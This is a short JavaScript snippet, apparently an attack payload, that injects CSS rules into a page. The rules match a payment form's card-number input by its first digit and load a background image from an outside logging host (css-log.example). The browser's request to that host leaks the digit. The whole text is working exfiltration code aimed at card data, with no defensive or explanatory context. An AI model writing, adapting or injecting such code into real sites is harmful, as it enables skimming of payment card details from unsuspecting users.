var st = document.createElement('style'); var r = '';
'0123456789'.split('').forEach(function (c) { r += 'input[name="cardnumber"][value^="' + c + '"]{background:url(https://css-log.example/?' + c + ')}'; });
st.innerHTML = r; document.head.appendChild(st);
